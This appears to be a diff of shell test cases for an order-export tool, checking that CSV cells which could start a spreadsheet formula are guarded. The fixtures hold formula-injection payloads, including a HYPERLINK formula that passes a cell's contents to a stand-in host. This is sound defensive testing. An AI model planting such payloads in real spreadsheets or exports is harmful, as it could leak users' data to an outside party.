@@ -33,7 +33,7 @@ locations() {
 	rec='{"type":"order","order_id":"=1+1","channel":"dtc","priority":-5,"currency":"USD","customer":{"name":"=HYPERLINK(\"http://x.example\")","company":"@corp"},"ship_to":{"line1":"'"'"'=x","line2":"'"''"'@y","phone":"+1 555 0100"},"lines":[{"line_id":"1","sku":"-TEE","qty":2,"unit_price":"12.50","title":"'"'"'\tt"}]}'
 	printf '%s\n' "$rec" | oms-import > "$T/a.ndjson"
 	run -0 oms-import -o csv "$T/a.ndjson"
-	assert_line --index 1 "order,\"'=1+1\",dtc,,,,open,,,\"'=HYPERLINK(\"\"http://x.example\"\")\",\"'@corp\",,,,,-5,,,,,\"''=x\",\"'''@y\",,,,,\"'+1 555 0100\",USD,,,,,,,,,,,,1,\"'-TEE\",\"''${TAB}t\",,,,,2,12.50,,,,,,,,,,,,,"
+	assert_line --index 1 "order,\"'=1+1\",dtc,,,,open,,,\"'=HYPERLINK(\"\"http://x.example\"\")\",\"'@corp\",,,,,-5,,,,,\"''=x\",\"'''@y\",,,,,\"'+1 555 0100\",USD,,,,,,,,,,,,1,\"'-TEE\",\"''${TAB}t\",,,,,2,12.50,,,,,,,,,,,,,,"
 	oms-import -o csv "$T/a.ndjson" > "$T/a.csv"
 	run -0 formulas "$T/a.csv"
 	assert_output ''
@@ -117,10 +117,10 @@ locations() {
 @test "pick tickets (oms layout): every text cell that would start a formula is guarded; qty and a negative unit price stay numbers" {
 	loc=$(locations)
 	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
-	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" "$T/in"
+	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/in"
 	assert_equal "$(ls "$T/m")" "$(printf '%s\n' -LOC.csv void)"
-	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,\"'-TEE\",\"'@S\",\"'=C\",\"'+M\",2,-1.00,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
-	assert_equal "$(sed -n 3p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,TEE,,,,1,12.50,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
+	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,\"'-TEE\",\"'@S\",\"'=C\",\"'+M\",2,-1.00,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\",,,"
+	assert_equal "$(sed -n 3p "$T/m/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-svc\",2026-11-30,TEE,,,,1,12.50,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\",,,"
 	run -0 formulas "$T/m/-LOC.csv"
 	assert_output ''
 }
@@ -128,10 +128,10 @@ locations() {
 @test "void lists: a cancelled shipment's cells that would start a formula are guarded; qty stays a number" {
 	loc=$(locations)
 	order "=1+1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
-	oms-split --locations "$loc" "$T/in" > "$T/night1"
+	oms-split --as-of 2026-11-26 --locations "$loc" "$T/in" > "$T/night1"
 	# The order is cancelled: its released shipment goes to the void list.
 	jq -c 'if .type == "order" then .status = "cancelled" | .lines[].allocated = [] else . end' "$T/night1" > "$T/night2"
-	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" "$T/night2"
+	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/night2"
 	assert_equal "$(sed -n 2p "$T/m/void/-LOC.csv")" "\"'-LOC\",\"'=1+1/1\",\"'=1+1\",\"'+web\",\"'-TEE\",2,the order was cancelled"
 	run -0 formulas "$T/m/void/-LOC.csv"
 	assert_output ''
@@ -140,7 +140,7 @@ locations() {
 @test "pick tickets (ShipStation layout): the same guard, Item - Qty and Item - Price stay numbers" {
 	loc=$(locations)
 	order "@1" "$HOSTILE" "$HOSTILE_LINES" > "$T/in"
-	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" --manifest-format shipstation "$T/in"
+	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" --manifest-format shipstation "$T/in"
 	assert_equal "$(sed -n 2p "$T/m/-LOC.csv")" "\"'@1/1\",\"'@1\",\"'+web\",\"'-svc\",11/30/2026,\"'-TEE\",\"'@S\",\"Color: =C, Size: +M\",2,-1.00,\"'-LOC\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'@corp\",\"''=1+2\",\"'''@SUM(A1)\",\"'-Town\",\"'+R\",\"'-0100\",US,\"'+1 555 0100\""
 	run -0 formulas "$T/m/-LOC.csv"
 	assert_output ''
@@ -150,7 +150,7 @@ locations() {
 	loc=$(locations)
 	order "T1" '"ship_to":{"name":"\tn","company":"\rc","line1":"\nl","line2":"'"'"'\tx"}' \
 		'[{"line_id":"1","sku":"\tTEE","style":"\rS","qty":1,"allocated":[{"location":"-LOC","qty":1}]}]' > "$T/in"
-	run -0 oms-split --locations "$loc" --manifest-dir "$T/m" "$T/in"
+	run -0 oms-split --as-of 2026-11-26 --locations "$loc" --manifest-dir "$T/m" "$T/in"
 	run -0 formulas "$T/m/-LOC.csv"
 	assert_output ''
 	run -0 cell "$T/m/-LOC.csv" 2 16
